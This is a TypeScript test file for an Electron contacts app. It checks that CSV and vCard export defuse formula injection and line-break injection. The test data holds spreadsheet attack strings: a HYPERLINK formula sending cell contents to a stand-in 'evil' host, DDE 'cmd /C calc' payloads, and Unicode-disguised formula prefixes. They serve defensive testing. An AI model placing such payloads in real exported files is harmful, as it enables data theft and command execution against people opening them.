import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportContacts } from '../../../electron/core/contacts/files/export.js';
import { importContacts } from '../../../electron/core/contacts/files/import-contacts.js';
import { readVcard } from '../../../electron/core/contacts/files/vcard.js';
import { userContact } from '../../../electron/core/contacts/from-genesys.js';
import type { BaseContact } from '../../../electron/core/contacts/types.js';

let ids = 0;
/** Imports a file as softdial does (bytes, decoded, read), with GB as the default country. */
const importFile = (content: string, fileName: string): BaseContact[] => {
  const result = importContacts({
    fileName,
    bytes: Buffer.from(content, 'utf8'),
    dryRun: false,
    existing: [],
    defaultCountry: 'GB',
    newId: () => `local:${++ids}`,
  });
  if (!result.ok) throw new Error(result.error);
  return result.value.contacts;
};

/** What must survive an export and an import: names, organisations, and each number's label, E.164 and extension. */
const essentials = (contacts: readonly BaseContact[]) =>
  contacts.map(({ name, organization, numbers }) => ({
    name,
    organization,
    numbers: numbers.map(({ label, e164, extension }) => ({ label, e164, extension })),
  }));

const people = importFile(
  [
    'Name,Company,Work,Mobile',
    'Zoë Müller,Bäckerei Größe,+44 20 7946 0958 ext. 12,+44 7400 123456',
    '"Doe, Jane","Acme; Ltd",020 7946 0000,',
    'Ana Núñez,,+49 30 1234567,',
  ].join('\n'),
  'people.csv',
);

/** A directory user somebody else named, exported with `--source users`. */
const hostile = userContact(
  {
    id: 'u-evil',
    name: '=HYPERLINK("http://evil/?x="&A2,"Click")',
    title: '+cmd|" /C calc"!A0',
    department: 'Sales',
    email: '@SUM(1+1)*cmd|" /C calc"!A0',
    addresses: [
      { mediaType: 'PHONE', type: 'WORK', address: '+44 20 7946 0100' },
      { mediaType: 'PHONE', type: 'HOME', address: '-2+3+cmd|" /C calc"!A0' },
      { mediaType: 'PHONE', type: 'MOBILE', address: '=1+1' },
    ],
    primaryContactInfo: [],
  },
  'GB',
);

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV export', () => {
  it('starts with a UTF-8 BOM, and reads back through softdial to the same contacts', () => {
    const file = exportContacts(people, 'csv');
    expect(Buffer.from(file.content, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const again = importFile(file.content, file.fileName);
    expect(essentials(again)).toEqual(essentials(people));
    expect(again[0]?.numbers[0]).toMatchObject({ e164: '+442079460958', extension: '12' });
    expect(again[0]?.name).toBe('Zoë Müller');
  });

  it('keeps formulas from other people as text, and numbers as they are', () => {
    const tabbed: BaseContact = {
      id: 'local:tab',
      source: 'local',
      name: '\tTabbed',
      organization: '\r=Carriage',
      numbers: [{ id: 'n1', label: '@Custom', raw: '+44 20 7946 0958' }],
    };
    const file = exportContacts([...people, hostile, tabbed], 'csv');
    const rows: string[][] = parse(file.content, { bom: true, relax_column_count: true });
    const cells = rows.flat();
    const unsafe = cells.filter((cell) => FORMULA_START.test(cell) && !/^\+\d+(;ext=\d+)?$/.test(cell));
    expect(unsafe).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil/?x="&A2,"Click")`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(cells).toContain(`'-2+3+cmd|" /C calc"!A0`);
    expect(cells).toContain(`'=1+1`);
    expect(cells).toContain(`'\tTabbed`);
    expect(cells).toContain(`'@Custom phone`);
    expect(cells).toContain('+442079460958;ext=12');
    expect(cells).toContain('+447400123456');
    expect(cells).toContain('+442079460100');
  });

  it('reads a defused formula back as the text it was, without the apostrophe that guarded it', () => {
    const file = exportContacts([hostile], 'csv');
    const [again] = importFile(file.content, file.fileName);
    expect(again?.name).toBe(hostile.name);
    expect(again?.numbers.map((number) => number.e164)).toContain('+442079460100');
  });
});

describe('CSV export of formulas in disguise', () => {
  const disguises = [
    '\u200b=cmd|" /C calc"!A0',
    '\u0085=1+1',
    '\u0001@SUM(1)',
    '\uff1d1+1',
    '\uff0bcmd',
    '   =HYPERLINK("http://evil")',
    '\ufeff-2+3',
  ];

  it.each(disguises)('guards %j, and reads it back as it was', (text) => {
    const directory: BaseContact = {
      id: 'users:1',
      source: 'users',
      name: 'Dana Directory',
      title: text,
      organization: text,
      numbers: [{ id: 'n1', label: 'Work', raw: '+442079460958', e164: '+442079460958' }],
    };
    const file = exportContacts([directory], 'csv');
    const rows: string[][] = parse(file.content, { bom: true, relax_column_count: true });
    expect(rows[1]?.[1]).toBe(`'${text}`);
    expect(rows[1]?.[2]).toBe(`'${text}`);
    const [again] = importFile(file.content, file.fileName);
    expect(again?.organization?.trim()).toBe(text.trim());
  });
});

describe('vCard export', () => {
  it('writes each TEL once typed, with an unescaped ;ext=, and reads back to the same contacts', () => {
    const file = exportContacts(people, 'vcard');
    const tels = file.content.split('\r\n').filter((line) => line.startsWith('TEL'));
    expect(tels).toContain('TEL;TYPE=WORK,VOICE:+442079460958;ext=12');
    expect(tels).toContain('TEL;TYPE=CELL,VOICE:+447400123456');
    expect(tels.filter((line) => line.includes('\\'))).toEqual([]);
    const types = tels.map((line) => /^TEL;TYPE=([^:]*):/.exec(line)?.[1]?.split(',') ?? []);
    expect(types.filter((list) => new Set(list).size !== list.length)).toEqual([]);
    expect(essentials(importFile(file.content, file.fileName))).toEqual(essentials(people));
  });

  it('writes no TYPE twice for a number of any other label', () => {
    const other: BaseContact = {
      id: 'local:other',
      source: 'local',
      name: 'Otto Other',
      numbers: [{ id: 'n1', label: 'Phone', raw: '+442079460958', e164: '+442079460958' }],
    };
    expect(exportContacts([other], 'vcard').content).toContain('\r\nTEL;TYPE=VOICE:+442079460958\r\n');
  });

  it('keeps a carriage return in a name inside its property', () => {
    const sneaky: BaseContact = {
      id: 'local:cr',
      source: 'local',
      name: 'Eve\rTEL:+19005550100',
      numbers: [{ id: 'n1', label: 'Work', raw: '+442079460958\rTEL:+19005550199' }],
    };
    const read = readVcard(exportContacts([sneaky], 'vcard').content);
    expect(read.refused).toEqual([]);
    expect(read.records).toHaveLength(1);
    expect(read.records[0]?.numbers).toEqual([{ label: 'Work', raw: '+442079460958 TEL:+19005550199' }]);
    expect(read.records[0]?.name).toBe('Eve\nTEL:+19005550100');
  });
});
